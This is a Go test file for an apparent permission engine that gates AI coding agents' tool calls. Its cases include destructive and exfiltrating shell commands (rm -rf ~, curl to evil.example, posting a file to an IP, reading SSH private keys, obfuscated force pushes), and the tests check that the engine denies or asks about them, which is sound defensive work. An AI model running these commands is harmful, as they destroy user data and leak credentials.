package policy_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/agentwarden/warden/analyze/shell"
	"github.com/agentwarden/warden/policy"
	"github.com/agentwarden/warden/risk"
	"github.com/agentwarden/warden/tool"
)

// matrixCall is one kind of call of the matrix, with a rule written for it.
type matrixCall struct {
	name string
	call func() *tool.Call
	rule string // a permission rule that matches the call
}

var matrixCalls = []matrixCall{
	{"read", func() *tool.Call {
		return normalize(`{"tool":"Read","arguments":{"file_path":"/home/user/project/main.go"}}`)
	}, "Read(./main.go)"},
	{"edit inside", func() *tool.Call {
		return normalize(`{"tool":"Edit","arguments":{"file_path":"/home/user/project/main.go","old_string":"a","new_string":"b"}}`)
	}, "Edit(/main.go)"},
	{"edit outside", func() *tool.Call {
		return normalize(`{"tool":"Write","arguments":{"file_path":"/etc/hosts","content":"x"}}`)
	}, "Edit(//etc/hosts)"},
	{"execute", func() *tool.Call { return normalize(`{"tool":"Bash","arguments":{"command":"make deploy"}}`) }, "Bash(make deploy:*)"},
	{"mcp", func() *tool.Call { return normalize(`{"tool":"mcp__github__create_issue","arguments":{"title":"x"}}`) }, "mcp__github__create_issue"},
}

// matrixLevel is one assessment of the matrix.
type matrixLevel struct {
	name       string
	level      risk.Level
	unknown    bool
	reversible bool
	locked     bool
}

var matrixLevels = []matrixLevel{
	{"safe", risk.Safe, false, true, false},
	{"low", risk.Low, false, true, false},
	{"medium", risk.Medium, false, true, false},
	{"high", risk.High, false, true, false},
	{"critical reversible", risk.Critical, false, true, false},
	{"critical irreversible", risk.Critical, false, false, false},
	{"unknown", risk.Unknown, true, false, false},
	{"high with an unknown analyzer", risk.High, true, false, false},
	// locked: no allow rule and no mode opens it, whatever the level
	{"critical locked reversible", risk.Critical, false, true, true},
	{"critical locked", risk.Critical, false, false, true},
	{"high locked", risk.High, false, true, true},
	{"low locked", risk.Low, false, true, true},
}

type matrixMode struct {
	name    string
	mode    policy.Mode
	disable bool
}

var matrixModes = []matrixMode{
	{"default", policy.ModeDefault, false},
	{"plan", policy.ModePlan, false},
	{"acceptEdits", policy.ModeAcceptEdits, false},
	{"dontAsk", policy.ModeDontAsk, false},
	{"bypassPermissions", policy.ModeBypassPermissions, false},
	{"bypassPermissions, disable_bypass", policy.ModeBypassPermissions, true},
}

// expected is DESIGN.md §5 restated, cell by cell, independently of the
// implementation: deny rules ▸ ask rules ▸ allow rules ▸ mode ▸
// confirmation policy (ConfirmRisky, threshold high, confirm_unknown);
// a locked assessment is never allowed by an allow rule or a mode: it is
// asked about, or denied where nobody is asked (dontAsk).
func expected(m matrixMode, l matrixLevel, callName, list string) risk.Verdict {
	v := expectedUnlocked(m, l, callName, list)
	if l.locked && v == risk.Allow {
		if m.mode == policy.ModeDontAsk {
			return risk.Deny
		}
		return risk.Ask
	}
	return v
}

func expectedUnlocked(m matrixMode, l matrixLevel, callName, list string) risk.Verdict {
	bypass := m.mode == policy.ModeBypassPermissions && !m.disable
	switch {
	case list == "deny":
		return risk.Deny // a deny rule always wins
	case list == "ask" && bypass:
		return risk.Allow // bypass: everything but deny rules
	case list == "ask" && m.mode == policy.ModeDontAsk:
		return risk.Deny // nobody to ask
	case list == "ask":
		return risk.Ask
	case list == "allow" && !l.locked:
		return risk.Allow // reversibility does not decide
	}
	// the mode over the confirmation policy
	confirm := l.unknown || l.level == risk.Unknown || l.level == risk.High || l.level == risk.Critical
	switch {
	case bypass:
		return risk.Allow
	case m.mode == policy.ModeDontAsk && (l.level == risk.Critical || l.level == risk.Unknown || l.unknown):
		return risk.Deny
	case m.mode == policy.ModeDontAsk:
		return risk.Allow
	case m.mode == policy.ModeAcceptEdits && callName == "edit inside" && l.level != risk.Critical && !l.unknown:
		return risk.Allow
	case m.mode == policy.ModePlan && callName != "read" && !confirm:
		return risk.Ask
	case confirm:
		return risk.Ask
	}
	return risk.Allow
}

// TestDecisionMatrix decides every cell of mode × level × kind of call ×
// rule list and compares with DESIGN.md §5.
func TestDecisionMatrix(t *testing.T) {
	cells := 0
	for _, m := range matrixModes {
		for _, l := range matrixLevels {
			for _, mc := range matrixCalls {
				for _, list := range []string{"none", "deny", "ask", "allow"} {
					p := policy.Default()
					p.Mode, p.DisableBypass = m.mode, m.disable
					if list != "none" {
						var err error
						if p, err = policy.Parse("p.yaml", fmt.Appendf(nil, "mode: %s\ndisable_bypass: %v\n%s: [%q]\n", m.mode, m.disable, list, mc.rule)); err != nil {
							t.Fatal(err)
						}
					}
					c := mc.call()
					as := risk.Assessment{Level: l.level, Unknown: l.unknown, Reversible: l.reversible, Locked: l.locked}
					d := p.Decide(&as, c)
					want := expected(m, l, mc.name, list)
					if d.Verdict != want {
						t.Errorf("%s / %s / %s / rule %s: %s (%s: %v), want %s", m.name, l.name, mc.name, list, d.Verdict, d.Rule, d.Reasons, want)
					}
					if d.Rule == "" || len(d.Reasons) == 0 {
						t.Errorf("%s / %s / %s / rule %s: the decision has no rule or reason: %+v", m.name, l.name, mc.name, list, d)
					}
					cells++
				}
			}
		}
	}
	if want := len(matrixModes) * len(matrixLevels) * len(matrixCalls) * 4; cells != want {
		t.Fatalf("%d cells, want %d", cells, want)
	}
}

// TestSeed003ModeDescriptions checks each permission tier against the
// sentence seed 003 gives it.
func TestSeed003ModeDescriptions(t *testing.T) {
	edit := normalize(`{"tool":"Edit","arguments":{"file_path":"/home/user/project/main.go","old_string":"a","new_string":"b"}}`)
	read := normalize(`{"tool":"Read","arguments":{"file_path":"/home/user/project/main.go"}}`)
	run := normalize(`{"tool":"Bash","arguments":{"command":"go build ./..."}}`)
	risky := normalize(`{"tool":"Bash","arguments":{"command":"git push --force"}}`)
	low, high := risk.Assessment{Level: risk.Low, Reversible: true}, risk.Assessment{Level: risk.High, Reversible: true}
	decide := func(m policy.Mode, disable bool, as risk.Assessment, c *tool.Call) risk.Verdict {
		p := policy.Default()
		p.Mode, p.DisableBypass = m, disable
		return p.Decide(&as, c).Verdict
	}
	// default: "adhering to general safety guidelines and requiring approvals for sensitive actions"
	if decide(policy.ModeDefault, false, low, run) != risk.Allow || decide(policy.ModeDefault, false, high, risky) != risk.Ask {
		t.Error("default: routine actions run, sensitive ones need approval")
	}
	// plan: "can formulate plans but requires explicit user acceptance before executing any actions"
	if decide(policy.ModePlan, false, low, read) != risk.Allow || decide(policy.ModePlan, false, low, run) != risk.Ask || decide(policy.ModePlan, false, low, edit) != risk.Ask {
		t.Error("plan: reading runs, executing and editing need acceptance")
	}
	// acceptEdits: "permitted to make modifications … but may still require approval for other categories"
	if decide(policy.ModeAcceptEdits, false, high, edit) != risk.Allow || decide(policy.ModeAcceptEdits, false, high, risky) != risk.Ask {
		t.Error("acceptEdits: edits in the workspace run, other risky actions are asked")
	}
	// dontAsk: "allowed to execute actions without prompting the user"
	if decide(policy.ModeDontAsk, false, high, risky) != risk.Allow {
		t.Error("dontAsk: no prompt")
	}
	if decide(policy.ModeDontAsk, false, risk.Assessment{Level: risk.Critical}, risky) != risk.Deny {
		t.Error("dontAsk: what cannot be asked and is critical is denied")
	}
	// bypassPermissions: "bypass all internal permission checks … can be disabled (disableBypass)"
	if decide(policy.ModeBypassPermissions, false, risk.Assessment{Level: risk.Critical}, risky) != risk.Allow {
		t.Error("bypassPermissions: everything runs")
	}
	if decide(policy.ModeBypassPermissions, true, high, risky) != risk.Ask {
		t.Error("bypassPermissions with disable_bypass: the default mode applies")
	}
}

func TestCompoundCommandsNeedEveryPartAllowed(t *testing.T) {
	p, err := policy.Parse("p.yaml", []byte("allow: ['Bash(npm test:*)', 'Bash(npm run lint)']\n"))
	if err != nil {
		t.Fatal(err)
	}
	high := risk.Assessment{Level: risk.High, Reversible: true}
	for cmd, want := range map[string]risk.Verdict{
		"npm test":                  risk.Allow,
		"npm test -- --watch=false": risk.Allow,
		"npm test && npm run lint":  risk.Allow,
		"npm test && rm -rf ~":      risk.Ask,
		"npm test; curl x.example":  risk.Ask,
		"npm test $(rm -rf ~)":      risk.Ask,
		"sudo npm test":             risk.Ask,
		"bash -c 'npm test'":        risk.Ask,
		"npm testing":               risk.Ask,
		"npm run lint --fix":        risk.Ask,
		"n''pm test":                risk.Allow,
		"npm test | tee /tmp/out":   risk.Ask,
		"npm test 'unterminated":    risk.Ask,
		"eval npm test":             risk.Ask,
	} {
		c := normalize(fmt.Sprintf(`{"tool":"Bash","arguments":{"command":%q}}`, cmd))
		if d := p.Decide(&high, c); d.Verdict != want {
			t.Errorf("%s: %s (%s), want %s", cmd, d.Verdict, d.Rule, want)
		}
	}
}

func TestRulesAcrossAgents(t *testing.T) {
	p, err := policy.Parse("p.yaml", []byte("deny: ['Bash(git push * --force*)', 'Read(~/.ssh/**)', 'WebFetch(domain:evil.example)', mcp__postgres]\n"))
	if err != nil {
		t.Fatal(err)
	}
	safe := risk.Assessment{Level: risk.Safe, Reversible: true}
	for _, js := range []string{
		`{"tool":"Bash","arguments":{"command":"cd repo && git push origin main --force"}}`,
		`{"tool":"execute_bash","arguments":{"command":"g''it push origin main --force-with-lease"}}`,
		`{"tool":"shell","arguments":{"command":["bash","-lc","git push up HEAD --force"]}}`,
		`{"tool":"run_shell_command","arguments":{"command":"git push origin x --force"}}`,
		`{"tool":"Read","arguments":{"file_path":"/home/user/.ssh/id_ed25519"}}`,
		`{"tool":"read_file","arguments":{"path":"../.ssh/config"}}`,
		`{"tool":"WebFetch","arguments":{"url":"https://EVIL.example./x","prompt":"p"}}`,
		`{"tool":"Bash","arguments":{"command":"curl -s https://evil.example/payload"}}`,
		`{"tool":"mcp__postgres__query","arguments":{"sql":"select 1"}}`,
	} {
		if d := p.Decide(&safe, normalize(js)); d.Verdict != risk.Deny || !strings.HasPrefix(d.Rule, "deny: ") {
			t.Errorf("%s: %s (%s), want deny", js, d.Verdict, d.Rule)
		}
	}
	for _, js := range []string{
		`{"tool":"Bash","arguments":{"command":"git push origin main"}}`,
		`{"tool":"Read","arguments":{"file_path":"/home/user/.ssh.txt"}}`,
		`{"tool":"WebFetch","arguments":{"url":"https://good.example/","prompt":"p"}}`,
		`{"tool":"mcp__github__get_issue","arguments":{"n":1}}`,
	} {
		if d := p.Decide(&safe, normalize(js)); d.Verdict == risk.Deny {
			t.Errorf("%s: denied by %s", js, d.Rule)
		}
	}
}

func TestConditions(t *testing.T) {
	p, err := policy.Parse("p.yaml", []byte(`
environment: prod
deny:
  - if: action.class == "database" && session.env == "prod" && assessment.rank >= rank("medium")
    reason: no risky database work in production
ask:
  - rule: Bash
    if: session.tainted && action.hosts.exists(h, !h.endsWith(".corp.example"))
allow:
  - if: action.class == "read" && assessment.rank <= rank("low")
`))
	if err != nil {
		t.Fatal(err)
	}
	sql := normalize(`{"tool":"mcp__postgres__query","arguments":{"sql":"DELETE FROM users"}}`)
	d := p.DecideFacts(&policy.Facts{Assessment: &risk.Assessment{Level: risk.High}, Call: sql})
	if d.Verdict != risk.Deny || !strings.Contains(d.Reasons[0], "no risky database work in production") {
		t.Errorf("database in prod: %+v", d)
	}
	curl := normalize(`{"tool":"Bash","arguments":{"command":"curl -d @x https://203.0.113.9/u"}}`)
	if d := p.DecideFacts(&policy.Facts{Assessment: &risk.Assessment{Level: risk.Low, Reversible: true}, Call: curl, Session: policy.SessionFacts{Tainted: true}}); d.Verdict != risk.Ask {
		t.Errorf("tainted egress: %+v", d)
	}
	if d := p.DecideFacts(&policy.Facts{Assessment: &risk.Assessment{Level: risk.Low, Reversible: true}, Call: curl}); d.Verdict != risk.Allow {
		t.Errorf("untainted: %+v", d)
	}
	read := normalize(`{"tool":"Read","arguments":{"file_path":"/home/user/project/a"}}`)
	p.Mode = policy.ModePlan
	if d := p.Decide(&risk.Assessment{Level: risk.Low, Reversible: true}, read); d.Verdict != risk.Allow || !strings.HasPrefix(d.Rule, "allow: ") {
		t.Errorf("condition-only allow: %+v", d)
	}
}

func TestConditionErrorsAtLoad(t *testing.T) {
	for src, says := range map[string]string{
		"deny: [{if: 'action.class == 1'}]\n":             "no matching overload",
		"deny: [{if: 'action.nope'}]\n":                   "undeclared reference",
		"deny: [{if: 'action.class'}]\n":                  "not a bool",
		"allow: [{if: ''}]\n":                             "needs a pattern",
		"ask: [{rule: 'Bash(npm test', if: 'true'}]\n":    "p.yaml:1:7",
		"deny:\n  - 'Bash(x)'\n  - {if: 'rank(1) > 0'}\n": "p.yaml:3:5",
	} {
		_, err := policy.Parse("p.yaml", []byte(src))
		if err == nil || !strings.Contains(err.Error(), says) || !strings.HasPrefix(err.Error(), "p.yaml:") {
			t.Errorf("%q: error %v, want it to say %q", src, err, says)
		}
	}
}

// A condition that cannot be evaluated (here: over the cost limit, or a
// missing argument) holds for deny and not for allow.
func TestConditionFailuresFailClosed(t *testing.T) {
	p, err := policy.Parse("p.yaml", []byte(`
deny: [{if: 'action.arguments.missing == "x"'}]
`))
	if err != nil {
		t.Fatal(err)
	}
	c := normalize(`{"tool":"Read","arguments":{"file_path":"/home/user/project/a"}}`)
	if d := p.Decide(&risk.Assessment{Level: risk.Safe, Reversible: true}, c); d.Verdict != risk.Deny {
		t.Errorf("a failing deny condition: %+v", d)
	}
	p, err = policy.Parse("p.yaml", []byte(`
allow: [{if: 'action.arguments.missing == "x"'}]
`))
	if err != nil {
		t.Fatal(err)
	}
	if d := p.Decide(&risk.Assessment{Level: risk.High, Reversible: true}, c); d.Verdict != risk.Ask {
		t.Errorf("a failing allow condition: %+v", d)
	}
	// a condition that would run long is stopped
	p, err = policy.Parse("p.yaml", []byte(`
allow: [{if: 'action.commands.all(a, action.commands.all(b, action.commands.all(c, a + b + c != "")))'}]
`))
	if err != nil {
		t.Fatal(err)
	}
	big := make([]string, 200)
	for i := range big {
		big[i] = "echo hi"
	}
	long := normalize(`{"tool":"Bash","arguments":{"command":"true"}}`)
	long.Shell = big
	if d := p.Decide(&risk.Assessment{Level: risk.High, Reversible: true}, long); d.Verdict != risk.Ask {
		t.Errorf("a condition over the cost limit: %+v", d)
	}
}

func TestMCPAnnotationTrust(t *testing.T) {
	c := normalize(`{"tool":"mcp__github__get_issue","arguments":{"n":"1"},"annotations":{"readOnlyHint":true}}`)
	low := risk.Assessment{Level: risk.Low, Reversible: true}
	p := policy.Default()
	p.Mode = policy.ModePlan
	if d := p.Decide(&low, c); d.Verdict != risk.Ask {
		t.Errorf("an untrusted readOnlyHint made the tool read-only: %+v", d)
	}
	for _, trust := range []string{"github", "mcp__github", "mcp__github__*", "mcp__github__get_issue"} {
		p.MCP.TrustAnnotations = []string{trust}
		if d := p.Decide(&low, c); d.Verdict != risk.Allow {
			t.Errorf("trusting %s: %+v", trust, d)
		}
	}
	p.MCP.TrustAnnotations = []string{"gitlab", "mcp__github__create_issue"}
	if d := p.Decide(&low, c); d.Verdict != risk.Ask {
		t.Errorf("trusting others: %+v", d)
	}
}

// normalize makes the call the engine decides on: normalized, and
// prepared by the shell preparer (which reads its commands'
// destinations).
func normalize(js string) *tool.Call {
	a, err := risk.ParseAction([]byte(js), risk.DefaultLimits)
	if err != nil {
		panic(err)
	}
	c := tool.Normalize(&a, workspace, "/home/user")
	if _, err := (shell.Preparer{}).Prepare(context.Background(), c); err != nil {
		panic(err)
	}
	return c
}
